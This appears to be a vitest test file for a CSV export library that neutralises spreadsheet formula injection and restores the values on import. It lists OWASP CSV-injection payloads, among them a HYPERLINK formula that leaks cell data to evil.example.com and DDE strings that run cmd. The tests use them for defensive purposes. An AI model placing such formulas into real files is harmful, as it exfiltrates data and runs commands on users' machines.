import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it, test } from 'vitest';
import { neutraliseCell, restoreCell, toCsv, toCsvInSlices } from '../../../src/lib/csv';
import { csvDownloadOf, previewCsvText } from '../../../src/pages/uploads/csvFile';

/** OWASP's CSV-injection payloads, and the two. */
const PAYLOADS = [
  '=HYPERLINK("https://evil.example.com/?c="&A1,"Open invoice")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+2',
  '\t=1+2',
  '\r=1+2',
  '-1+1',
  '+1 512 555 0170',
  "'=already quoted",
  "''+double",
];

const parse = (csv: string) => Papa.parse<string[]>(csv).data;

describe('the CSV rule (lib/csv)', () => {
  test('every cell that begins with =, +, -, @, a tab or a carriage return is written as text', async () => {
    const csv = await toCsv(
      ['value'],
      PAYLOADS.map((value) => [value]),
    );
    const cells = parse(csv)
      .slice(1)
      .map((row) => row[0]);
    expect(cells).toHaveLength(PAYLOADS.length);
    cells.forEach((cell, index) => {
      expect(cell, PAYLOADS[index]).toBe(`'${PAYLOADS[index]}`);
    });
  });

  test('plain texts, plain numbers as text, a lone sign and numbers sent as numbers stay as they are', async () => {
    const values: unknown[] = ['Blue Cafe', '-1,200', '+5%', '-$3.50', '-', '+', 42, -7, 2.5, '', 'a=b'];
    const csv = await toCsv(
      ['value'],
      values.map((value) => [value]),
    );
    expect(
      parse(csv)
        .slice(1)
        .map((row) => row[0]),
    ).toEqual(['Blue Cafe', '-1,200', '+5%', '-$3.50', '-', '+', '42', '-7', '2.5', '', 'a=b']);
    expect(csv).not.toContain("'");
  });

  test('empty, null and object values: empty cells and JSON (a formula-like JSON string too)', async () => {
    const csv = await toCsv(['a', 'b', 'c'], [[undefined, null, { x: 1 }]]);
    expect(parse(csv)[1]).toEqual(['', '', '{"x":1}']);
  });

  test('the header goes under the same rule', async () => {
    const csv = await toCsv(['=evil()', 'name'], [['x', 'y']]);
    expect(parse(csv)[0]).toEqual(["'=evil()", 'name']);
  });

  test('reading back restores every value, the apostrophe-led ones included', () => {
    for (const value of [...PAYLOADS, 'Blue Cafe', "'plain", "O'Neil", '-1,200', '-', "'"]) {
      expect(restoreCell(neutraliseCell(value)), value).toBe(value);
    }
    // A cell nobody neutralised is read as it is.
    expect(restoreCell("'plain")).toBe("'plain");
    expect(restoreCell("O'Neil")).toBe("O'Neil");
  });

  test('the round trip is exact for any text (property)', () => {
    fc.assert(
      fc.property(fc.string(), (value) => restoreCell(neutraliseCell(value)) === value),
      { numRuns: 2000 },
    );
    fc.assert(
      fc.property(
        fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r'),
        fc.string(),
        (lead, rest) => restoreCell(neutraliseCell(lead + rest)) === lead + rest,
      ),
      { numRuns: 2000 },
    );
  });

  test('skipped rows: downloaded under the rule, read back by the import as they were', async () => {
    const source = [
      'businessName,phone,businessCity',
      '"=HYPERLINK(""https://evil.example.com/"",""x"")",+1 512 555 0170,Austin',
      "@SUM(1+1)*cmd|' /C calc'!A0,-5125550171,O'Neil",
    ].join('\n');
    const preview = await previewCsvText(source);
    expect(preview.restored).toBe(false);
    const download = await csvDownloadOf(preview, preview.rows);
    for (const row of parse(download).slice(1)) {
      // Only a plain number may begin with a sign (a spreadsheet reads it as that number).
      for (const cell of row) expect(cell).not.toMatch(/^(?:[=@\t\r]|[+-](?!\d+$))/);
    }
    const again = await previewCsvText(download);
    expect(again.restored).toBe(true);
    expect(again.rows).toEqual(preview.rows);
    expect(again.rows[0]?.[1]).toBe('+1 512 555 0170');
  });
});

describe('toCsvInSlices: a large table, a slice at a time', () => {
  it('writes the same text as toCsv', async () => {
    const rows = Array.from({ length: 4_321 }, (_, n) => [`=row ${n}`, n, n % 7 ? `a, "b"\nc` : '', null]);
    for (const options of [{}, { delimiter: ';', newline: '\n' }])
      expect(await toCsvInSlices(['A', 'B', 'C', 'D'], rows, options)).toBe(
        await toCsv(['A', 'B', 'C', 'D'], rows, options),
      );
  });
});
